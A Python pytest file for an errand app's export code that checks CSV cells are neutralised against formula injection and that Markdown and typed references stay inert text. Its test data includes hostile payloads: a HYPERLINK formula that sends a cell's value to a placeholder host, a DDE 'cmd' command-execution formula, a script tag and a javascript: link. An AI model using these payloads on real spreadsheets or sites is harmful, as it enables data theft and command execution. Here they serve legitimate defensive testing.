"""Issue 28: exports that cannot act — CSV cells a spreadsheet cannot run (OWASP's CSV-injection
rule), Markdown that stays text, and a typed reference in the form that is kept and printed."""

from __future__ import annotations

import csv
import io

import markdown_it
import pytest
from hypothesis import given
from hypothesis import strategies as st

from bcc_tui.domain import errand as e
from bcc_tui.domain import exports


@pytest.mark.parametrize(
    "text, kept",
    [
        ('=HYPERLINK("http://x?"&G2,"Visa")', '\'=HYPERLINK("http://x?"&G2,"Visa")'),
        ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
        ("+46 70 111", "'+46 70 111"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),  # a spreadsheet that trims would run it
        ("ring mamma; =HYPERLINK(1)", "ring mamma; '=HYPERLINK(1)"),  # ';' splits in a Swedish one
        ('a;"@x"', 'a;"\'@x"'),
        # numbers stay numbers: a column of figures still sums
        ("-3", "-3"),
        ("-0.5", "-0.5"),
        ("12", "12"),
        # what is no formula is kept as it is
        ("2026-11-25", "2026-11-25"),
        ("2026-11-25T09:00:00Z", "2026-11-25T09:00:00Z"),
        ("Förnya recept", "Förnya recept"),
        ("a = b", "a = b"),
        ("", ""),
        ("'=already", "'=already"),
    ],
)
def test_a_cell_that_would_run_is_neutralised(text, kept):
    assert exports.neutralised(text) == kept


def test_cells_keep_numbers_and_none():
    assert [exports.cell(v) for v in (None, 3, -3, 0.25, "-x")] == ["", 3, -3, 0.25, "'-x"]


@given(st.text())
def test_no_cell_starts_like_a_formula_and_neutralising_is_done_once(text):
    out = exports.neutralised(text)
    assert out == exports.neutralised(out)  # idempotent: a stored "'=cmd|…" is not quoted again
    formula = out[:1] in "=+-@\t\r\0" and out != "" and not exports._NUMBER.fullmatch(out)
    assert not formula
    assert out.lstrip(" \u00a0")[:1] not in set("=+@") or out.startswith("'")
    for piece in out.split(";")[1:]:  # read with ';' as the separator
        assert piece.lstrip(' "\t\n\r\x0b\x0c')[:1] not in set("=+-@")


def test_csv_text_writes_every_cell_through_the_rule():
    text = exports.csv_text(["a", "b"], [["=1+1", -3], ["x", None]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["'=1+1", "-3"], ["x", ""]]


# -- Markdown -------------------------------------------------------------------------------------

ATTACK = (
    '=HYPERLINK("http://x?"&G2,"Visa")\n\n## Rubrik\n<script>alert(1)</script>\n- punkt\n> citat\n'
    "1. ett\n---\n===\n[klicka](javascript:alert(1)) ![bild](http://x/y.png) `kod` ```\n"
    "| a | b |\n|---|---|\n*fet* _kursiv_ ~~struken~~ &lt;b&gt; mamma@example.se www.example.se"
)


def _html(text: str) -> str:
    # CommonMark with GitHub's tables, strikethrough and bare-address links: the readers a printed
    # or pasted handover meets.
    return markdown_it.MarkdownIt("gfm-like").render(text)


def test_md_keeps_untrusted_text_in_one_paragraph_of_plain_text():
    line = exports.md(ATTACK)
    assert "\n" not in line
    html = _html(line)
    assert html.startswith("<p>") and html.count("<p>") == 1
    for tag in ("<h", "<script", "<a ", "<img", "<code", "<table", "<ul", "<ol", "<li", "<blockquote"):
        assert tag not in html, tag
    for tag in ("<em", "<strong", "<s>", "<del", "<hr"):
        assert tag not in html, tag
    # ... and it reads as written (white space folded).
    assert "## Rubrik &lt;script&gt;alert(1)&lt;/script&gt; - punkt &gt; citat" in html
    assert "[klicka](javascript:alert(1))" in html and "&amp;lt;b&amp;gt;" in html


@pytest.mark.parametrize("start", ["- x", "+ x", "* x", "1. x", "1) x", "# x", "> x", "---", "===", "***"])
def test_md_at_a_line_start_makes_no_block(start):
    html = _html("> " + exports.md(start))  # as a quoted note's line: the quote and nothing else
    assert html.replace("\n", "").startswith("<blockquote><p>")
    for tag in ("<ul", "<ol", "<h", "<hr", "<blockquote><blockquote"):
        assert tag not in html.replace("\n", ""), (start, html)


def test_md_quote_keeps_a_note_inside_its_quote():
    lines = exports.md_quote("Första\n---\n\n## Rubrik\n- punkt\n    kod")
    assert all(line.startswith("> ") for line in lines)
    html = _html("\n".join(lines))
    assert html.count("<blockquote>") == 1
    for tag in ("<h", "<ul", "<pre", "<hr"):
        assert tag not in html, tag


def test_md_leaves_ordinary_text_alone():
    assert (
        exports.md("Ring mamma efter 14:00, hon vill ha 2 st.") == "Ring mamma efter 14:00, hon vill ha 2 st."
    )
    assert exports.md("1177-000001") == "1177-000001"


# -- a typed reference ----------------------------------------------------------------------------


def test_a_typed_reference_is_kept_in_a_safe_form():
    assert e.shown_ref("1177-000001") == "1177-000001"
    assert e.shown_ref("=cmd|' /C calc'!A0") == "'=cmd|' /C calc'!A0"
    assert e.shown_ref("\x1b[2J") == "[2J"  # no control characters
    assert e.shown_ref("@\x1b[2J") == "'@[2J"
    assert e.shown_ref("x" * 500) == "x" * 40 + "…"
    assert not e.REF.fullmatch(e.shown_ref("=1177-000001"))  # never another errand's reference
